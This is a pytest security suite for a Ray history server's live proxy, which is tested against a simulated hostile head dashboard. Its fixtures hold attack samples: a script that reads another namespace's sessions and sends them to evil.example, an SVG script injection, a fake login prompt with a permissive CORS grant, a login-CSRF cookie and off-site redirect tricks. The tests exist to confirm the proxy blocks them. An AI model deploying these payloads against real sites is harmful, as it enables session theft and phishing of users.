"""The live proxy against a hostile head dashboard: the head runs tenant code, so
whatever it sees may be replayed and whatever it answers reaches browsers on the
history server's origin (docs/security-model.md, "live proxy"). Our app under a
real threaded server, a stand-in head on a loopback port."""

from __future__ import annotations

import http.client
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from flask import Flask

from runtime.server.app import create_app
from runtime.server.config import LiveClusterURL
from runtime.server.context import app_services
from runtime.server.live.bounds import ClusterSlots, Deadlines
from runtime.server.live.discovery import StaticLiveDirectory
from runtime.server.live.headers import ForeignRedirectError, proxied_location
from runtime.server.live.proxy import cluster_limit
from tests.support.app_world import server_config as world_config
from tests.support.app_world import stored_session_a
from tests.unit.server.live.servers import Upstream, live_cookies, make_app, serve, server_config, upstream_server

pytestmark = pytest.mark.hostile

SELECT = "; ".join(f"{k}={v}" for k, v in live_cookies().items())
HOSTILE_ROUTES: dict[str, tuple[int, list[tuple[str, str]], bytes]] = {
    "/set-login": (
        200,
        [
            ("Content-Type", "application/json"),
            ("Set-Cookie", "__Host-ray_history_login=gAAAAA-attackers-own-login; Path=/; Secure; HttpOnly"),
            ("Set-Cookie", "cluster_namespace=team-b; Path=/"),
        ],
        b"{}",
    ),
    "/page": (
        200,
        [("Content-Type", "text/html; charset=utf-8"), ("X-Content-Type-Options", "off")],
        b"<script>fetch('/sessions/team-b/secret/live/api/jobs/').then(r=>r.text())"
        b".then(t=>fetch('https://evil.example/?'+t))</script>",
    ),
    "/flamegraph.svg": (200, [("Content-Type", "image/svg+xml")], b"<svg><script>alert(1)</script></svg>"),
    "/phish": (
        401,
        [
            ("Content-Type", "text/plain"),
            ("WWW-Authenticate", 'Basic realm="Ray History Server login"'),
            ("Refresh", "0; url=https://evil.example/"),
            ("Access-Control-Allow-Origin", "https://evil.example"),
            ("Access-Control-Allow-Credentials", "true"),
            ("Content-Security-Policy", "script-src *"),
        ],
        b"log in again",
    ),
    "/go": (302, [("Location", "https://evil.example/phish")], b""),
    "/go-scheme-relative": (302, [("Location", "//evil.example/phish")], b""),
    "/go-backslash": (302, [("Location", "/\\evil.example/phish")], b""),
}


@pytest.fixture
def head() -> Iterator[Upstream]:
    with upstream_server() as up:
        up.routes.update(HOSTILE_ROUTES)
        yield up


@pytest.fixture
def proxy(tmp_path: Path, head: Upstream) -> Iterator[tuple[str, Flask]]:
    directory = StaticLiveDirectory([LiveClusterURL("default", "live-demo", head.url)])
    app = make_app(server_config(tmp_path, proxy_timeout=0.5), directory)
    with serve(app) as url:
        yield url, app


def _proxied(app: Flask, outcome: str) -> float:
    metrics = app_services(app).metrics
    value = metrics.registry.get_sample_value("historyserver_live_proxy_requests_total", {"outcome": outcome})
    return float(value or 0.0)


# ---------------------------------------------------------------- on the way up


@pytest.mark.parametrize(
    "cookie",
    [
        "ray_history_login=gAAAAA-victims-sealed-login",
        "__Host-ray_history_login=gAAAAA-victims-sealed-login",
        "__Host-ray_history_oidc_login=gAAAAA-victims-login-state",
        "ray-authentication-token=forged",
        "some_other_app=its-session",
    ],
)
def test_no_cookie_reaches_the_ray_head(proxy: tuple[str, Flask], head: Upstream, cookie: str) -> None:
    """The history server's OIDC login (and login state) cookie would let tenant code on
    the head log in to the history server as whoever opened its Dashboard; the Ray 2.60
    dashboard reads no cookie but its own token one, which the proxy replaces."""
    url, _ = proxy
    answer = requests.get(f"{url}/api/version", headers={"Cookie": f"{SELECT}; {cookie}"}, timeout=10)
    assert answer.status_code == 200
    assert head.last().header("Cookie") is None


def test_two_cookie_headers_and_comma_joined_values_forward_nothing(proxy: tuple[str, Flask], head: Upstream) -> None:
    """A second Cookie line, or cookies joined with a comma, cannot sneak one through."""
    url, _ = proxy
    conn = http.client.HTTPConnection(url.removeprefix("http://"), timeout=10)
    conn.putrequest("GET", "/api/version")
    conn.putheader("Cookie", f"{SELECT}; ")  # the server joins the two lines with ", "
    conn.putheader("Cookie", "ray_history_login=gAAAAA-a, __Host-ray_history_login=gAAAAA-b")
    conn.endheaders()
    assert conn.getresponse().status == 200
    seen = head.last()
    assert seen.header("Cookie") is None
    assert "ray_history_login" not in str(seen.headers)


@pytest.mark.parametrize(
    "header",
    [
        "Authorization",
        "Proxy-Authorization",
        "X-Ray-Authorization",
        "X-Goog-IAP-JWT-Assertion",
        "X-Goog-Authenticated-User-Email",
        "X-Goog-Authenticated-User-Id",
        "X-Amzn-OIDC-Data",
        "X-Amzn-OIDC-Accesstoken",
        "X-Amzn-OIDC-Identity",
        "X-Forwarded-Access-Token",  # oauth2-proxy
        "X-Auth-Request-Access-Token",
        "Cf-Access-Jwt-Assertion",
        "X-MS-Client-Principal",
    ],
)
def test_front_door_identity_headers_never_reach_the_ray_head(
    proxy: tuple[str, Flask], head: Upstream, header: str
) -> None:
    """IAP's and the ALB's signed assertions (``--trusted-header``), their unsigned
    companions and any other front door's token: the head could replay them against the
    history server. Request headers are an allow-list, so unknown ones are dropped too."""
    url, _ = proxy
    answer = requests.get(f"{url}/api/version", headers={"Cookie": SELECT, header: "eyJ.victim.jwt"}, timeout=10)
    assert answer.status_code == 200
    assert head.last().header(header) is None, f"{header} forwarded to the Ray head"
    assert "eyJ.victim.jwt" not in str(head.last().headers)


def test_a_script_gets_the_answers_ray_redacts_for_browsers(proxy: tuple[str, Flask], head: Upstream) -> None:
    """Ray 2.60 redacts runtime-env secrets (``env_vars``) only for requests that look like a
    browser's (``ray/dashboard/optional_utils.py`` ``is_browser_request``: a ``Sec-Fetch-*``
    header, among others). A script reading through the proxy with its own credentials
    (curl, no browser headers) must not get more than the Dashboard shows: the proxy always
    sends ``Sec-Fetch-Mode``."""
    url, _ = proxy
    assert requests.get(f"{url}/api/v0/tasks", headers={"Cookie": SELECT, "User-Agent": "curl/8"}, timeout=10).ok
    assert head.last().header("Sec-Fetch-Mode") == "cors"


def test_what_the_dashboard_needs_still_passes(proxy: tuple[str, Flask], head: Upstream) -> None:
    """Content negotiation, conditional and range requests pass; so do ``User-Agent`` and
    ``Sec-Fetch-*``, by which Ray 2.60 tells a browser and redacts runtime-env secrets."""
    url, _ = proxy
    sent = {
        "Cookie": SELECT,
        "Accept": "application/json",
        "Accept-Encoding": "gzip",
        "User-Agent": "Mozilla/5.0",
        "Sec-Fetch-Mode": "cors",
        "Sec-Fetch-Site": "same-origin",
        "Range": "bytes=0-99",
        "If-None-Match": '"abc"',
    }
    assert requests.get(f"{url}/api/v0/tasks", headers=sent, timeout=10).status_code == 200
    seen = head.last()
    for name, value in sent.items():
        if name != "Cookie":
            assert seen.header(name) == value, name


# -------------------------------------------------------------- on the way down


def test_the_head_cannot_set_cookies_on_the_history_servers_origin(proxy: tuple[str, Flask]) -> None:
    """A head planting ``__Host-ray_history_login`` would log the victim in as the attacker
    (login CSRF); one planting selection cookies would steer the victim's next page."""
    url, _ = proxy
    answer = requests.get(f"{url}/set-login", headers={"Cookie": SELECT}, timeout=10)
    assert answer.status_code == 200
    planted = answer.raw.headers.getlist("Set-Cookie")
    assert not any("ray_history_login" in c or "team-b" in c for c in planted), planted


@pytest.mark.parametrize("path", ["/page", "/flamegraph.svg", "/api/version"])
def test_what_the_head_serves_runs_no_script_in_our_origin(proxy: tuple[str, Flask], path: str) -> None:
    """HTML or SVG from the head (a profile, a traceback page, or one a job wrote) would
    otherwise run as the history server: read other namespaces' sessions with the
    victim's login and send them anywhere."""
    url, _ = proxy
    answer = requests.get(f"{url}{path}", headers={"Cookie": SELECT}, timeout=10)
    assert answer.status_code == 200
    assert answer.headers["Content-Security-Policy"] == "sandbox"
    assert answer.raw.headers.getlist("X-Content-Type-Options") == ["nosniff"]  # the head's "off" is not kept


def test_no_password_dialog_cors_grant_or_refresh_from_the_head(proxy: tuple[str, Flask]) -> None:
    """``WWW-Authenticate`` would ask for a password in the history server's name, a CORS
    grant would let another site read proxied answers, ``Refresh`` would redirect off site."""
    url, _ = proxy
    answer = requests.get(f"{url}/phish", headers={"Cookie": SELECT}, timeout=10)
    assert answer.status_code == 401
    for name in ("WWW-Authenticate", "Refresh", "Access-Control-Allow-Origin", "Access-Control-Allow-Credentials"):
        assert name not in answer.headers, name
    assert answer.headers["Content-Security-Policy"] == "sandbox"


@pytest.mark.parametrize("path", ["/go", "/go-scheme-relative", "/go-backslash"])
def test_the_head_cannot_redirect_browsers_off_site(proxy: tuple[str, Flask], path: str) -> None:
    """An open redirect on the history server's trusted name (phishing); refused with 502 JSON."""
    url, app = proxy
    answer = requests.get(f"{url}{path}", headers={"Cookie": SELECT}, allow_redirects=False, timeout=10)
    assert answer.status_code == 502
    assert "Location" not in answer.headers
    body = answer.json()
    assert body["result"] is False
    assert "redirected" in body["msg"] and "outside the cluster" in body["msg"]
    assert _proxied(app, "foreign_redirect") == 1


def test_an_in_cluster_redirect_stays_under_the_session_url(tmp_path: Path) -> None:
    """Under ``/sessions/<ns>/<name>/live/`` a redirect inside the cluster keeps that prefix
    (it used to lose it and land on the history server's own ``/target``)."""
    with upstream_server() as up:
        config = world_config(tmp_path, sessions_ttl_seconds="0")
        store, _ = stored_session_a(config)
        directory = StaticLiveDirectory([LiveClusterURL("default", "live-demo", up.url)])
        client = create_app(config, store=store, live=directory).test_client()
        answer = client.get("/sessions/default/live-demo/live/redirect")
        assert answer.status_code == 302
        assert answer.headers["Location"] == "/sessions/default/live-demo/live/target?x=1"
        assert answer.headers["Content-Security-Policy"] == "sandbox"


@pytest.mark.parametrize(
    ("location", "root", "expected"),
    [
        ("http://head:8265/target?x=1", "", "/target?x=1"),
        ("http://head:8265/target#frag", "/sessions/ns/c/live", "/sessions/ns/c/live/target#frag"),
        ("http://HEAD:8265/", "/sessions/ns/c/live", "/sessions/ns/c/live/"),
        ("/abs", "/sessions/ns/c/live", "/sessions/ns/c/live/abs"),
        ("sibling", "/sessions/ns/c/live", "/sessions/ns/c/live/api/sibling"),
        ("../../../../up", "/sessions/ns/c/live", "/sessions/ns/c/live/up"),
    ],
)
def test_in_cluster_locations_are_rewritten_under_the_proxied_path(location: str, root: str, expected: str) -> None:
    assert proxied_location(location, "http://head:8265", "http://head:8265/api/jobs", root) == expected


@pytest.mark.parametrize(
    "location",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "/\t/evil.example/",
        "https://head:8265/",  # another scheme
        "http://head:8266/",  # another port
        "http://head:8265//evil.example/",  # would read as //evil.example without a prefix
        "javascript:alert(1)",
        "",
    ],
)
def test_foreign_locations_are_refused(location: str) -> None:
    with pytest.raises(ForeignRedirectError):
        proxied_location(location, "http://head:8265", "http://head:8265/api/jobs", "")


def test_a_base_url_with_a_path_confines_redirects_to_it() -> None:
    base = "http://head:8265/dash"
    assert proxied_location("http://head:8265/dash/x", base, base + "/api", "/p") == "/p/x"
    with pytest.raises(ForeignRedirectError):
        proxied_location("http://head:8265/dashboard-other/x", base, base + "/api", "/p")


# ------------------------------------------------------------------ bounds


def test_a_trickling_body_holds_a_thread_no_longer_than_the_total_deadline(
    proxy: tuple[str, Flask], head: Upstream
) -> None:
    """One byte every 0.15 s (40 bytes: 6 s) never trips the 0.5 s read timeout; the total
    deadline (2 x --proxy-timeout) cuts it, and the truncated answer is not made to look whole."""
    url, app = proxy
    started = time.monotonic()
    body = b""
    answer = requests.get(f"{url}/trickle", headers={"Cookie": SELECT}, stream=True, timeout=30)
    with pytest.raises(requests.RequestException), answer:
        for chunk in answer.iter_content(1):
            body += chunk
    assert time.monotonic() - started < 1.5
    assert len(body) < 40
    assert _proxied(app, "upstream_timeout") == 1


def test_trickled_headers_are_cut_at_the_total_deadline(proxy: tuple[str, Flask]) -> None:
    url, _app = proxy
    started = time.monotonic()
    answer = requests.get(f"{url}/trickle-headers", headers={"Cookie": SELECT}, timeout=30)
    assert time.monotonic() - started < 1.5
    assert answer.status_code == 504
    assert "no complete answer" in answer.json()["msg"]


def _start_held(head: Upstream, requests_held: list[threading.Thread]) -> None:
    """Start the threads (each a request the head holds) and wait until the head has seen them."""
    for thread in requests_held:
        thread.start()
    deadline = time.monotonic() + 10
    while len(head.seen) < len(requests_held) and time.monotonic() < deadline:
        time.sleep(0.02)


def test_one_slow_head_cannot_take_every_thread(tmp_path: Path, head: Upstream) -> None:
    """At most 3/4 of --threads requests per cluster (3 of 4 here); the next gets 503 JSON
    with Retry-After, another cluster is still served, and slots come back."""
    directory = StaticLiveDirectory(
        [LiveClusterURL("default", "live-demo", head.url), LiveClusterURL("default", "other", head.url)]
    )
    app = make_app(server_config(tmp_path, proxy_timeout=8, threads=4), directory)
    assert cluster_limit(4) == 3
    results: list[int] = []
    with serve(app) as url:
        held = [
            threading.Thread(
                target=lambda: results.append(
                    requests.get(f"{url}/wait", headers={"Cookie": SELECT}, timeout=30).status_code
                )
            )
            for _ in range(3)
        ]
        _start_held(head, held)
        refused = requests.get(f"{url}/api/version", headers={"Cookie": SELECT}, timeout=10)
        assert refused.status_code == 503
        assert refused.headers["Retry-After"]
        assert "default/live-demo" in refused.json()["msg"]
        other = "; ".join(f"{k}={v}" for k, v in live_cookies("default", "other").items())
        assert requests.get(f"{url}/api/version", headers={"Cookie": other}, timeout=10).status_code == 200
        head.released.set()
        for thread in held:
            thread.join(15)
        assert results == [200, 200, 200]
        assert requests.get(f"{url}/api/version", headers={"Cookie": SELECT}, timeout=10).status_code == 200
    assert _proxied(app, "too_many_requests") == 1


def test_deadlines_fire_once_and_not_after_disarm() -> None:
    deadlines = Deadlines()
    fired: list[str] = []
    deadlines.arm(time.monotonic() + 0.05, lambda: fired.append("a"))
    handle = deadlines.arm(time.monotonic() + 0.05, lambda: fired.append("b"))
    deadlines.disarm(handle)
    deadlines.arm(time.monotonic() + 10, lambda: fired.append("late"))
    time.sleep(0.3)
    assert fired == ["a"]
    assert len(deadlines) == 1


def test_cluster_slots_are_per_cluster() -> None:
    slots = ClusterSlots(2)
    assert slots.try_acquire("a/x") and slots.try_acquire("a/x")
    assert not slots.try_acquire("a/x")
    assert slots.try_acquire("a/y")
    slots.release("a/x")
    assert slots.try_acquire("a/x")
    assert slots.in_use("a/x") == 2


def test_a_deadline_after_the_answer_was_read_never_touches_a_reused_connection() -> None:
    """urllib3 returns a connection to the pool as soon as the body has been read, before the
    relay ends and the deadline is disarmed. A deadline firing then must not shut that
    socket: another request may be using it (keep-alive), and its answer would be cut (found
    by review helper-57). A request whose answer was all read is not cut either."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from requests.adapters import HTTPAdapter

    from runtime.server.live.bounds import Watch, track_connections

    class Head(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            if self.path == "/slow":
                time.sleep(2.0)  # the deadline (1 s) fires while the second request holds the connection
            self.send_response(200)
            self.send_header("Content-Length", "5")
            self.end_headers()
            self.wfile.write(b"hello")

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Head)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    session = requests.Session()
    session.mount("http://", HTTPAdapter(pool_connections=1, pool_maxsize=1))  # one connection: B reuses A's
    track_connections(session)
    deadlines = Deadlines()
    try:
        watch = Watch()
        deadlines.arm(time.monotonic() + 1.0, watch.expire)  # the first answer is read well before
        with watch:
            first = session.get(f"{base}/small", stream=True)
        assert first.raw.read() == b"hello"  # read whole: the connection is back in the pool
        second = session.get(f"{base}/slow", timeout=5)  # takes it, answers after the deadline
        assert watch.expired and not watch.cut
        assert (second.status_code, second.content) == (200, b"hello")
    finally:
        server.shutdown()
        server.server_close()


def test_a_redirects_body_is_relayed_with_its_length(tmp_path: Path) -> None:
    """requests' Session.send runs its redirect logic even when not following redirects,
    and that read a 3xx's whole body (unbounded) before the proxy could relay it: the
    browser got the head's Content-Length and no body, a stalled or desynchronised
    connection (Ray's own aiohttp redirects carry a 10-byte body; found by review helper-57)."""
    with upstream_server() as up:
        up.routes["/redir"] = (302, [("Location", "/target"), ("Content-Type", "text/plain")], b"moved here")
        directory = StaticLiveDirectory([LiveClusterURL("default", "live-demo", up.url)])
        app = make_app(server_config(tmp_path, proxy_timeout=5), directory)
        with serve(app) as url:
            answer = requests.get(f"{url}/redir", cookies=live_cookies(), allow_redirects=False, timeout=5)
    assert answer.status_code == 302
    assert answer.content == b"moved here"
    assert answer.headers["Content-Length"] == "10"


def test_log_streams_count_against_their_clusters_share(tmp_path: Path, head: Upstream) -> None:
    """A stream holds a thread as long as its log grows: streams and requests of one slow head
    together stay within the cluster's 3/4 of --threads (3 of 4 here), or a head holding
    --max-live-streams streams plus its request share took every thread (found by review
    helper-57)."""
    head.gap = 2.0  # each stream stays open ~6 s
    directory = StaticLiveDirectory([LiveClusterURL("default", "live-demo", head.url)])
    app = make_app(server_config(tmp_path, proxy_timeout=8, threads=4), directory)
    with serve(app) as url:

        def get(path: str) -> None:
            requests.get(f"{url}{path}", headers={"Cookie": SELECT}, timeout=30)

        held = [threading.Thread(target=get, args=(path,)) for path in ("/api/v0/logs/stream",) * 2 + ("/wait",)]
        _start_held(head, held)
        refused = requests.get(f"{url}/api/version", headers={"Cookie": SELECT}, timeout=10)
        head.released.set()
        for thread in held:
            thread.join(20)
    assert refused.status_code == 503, refused.text
    assert "log streams included" in refused.json()["msg"]
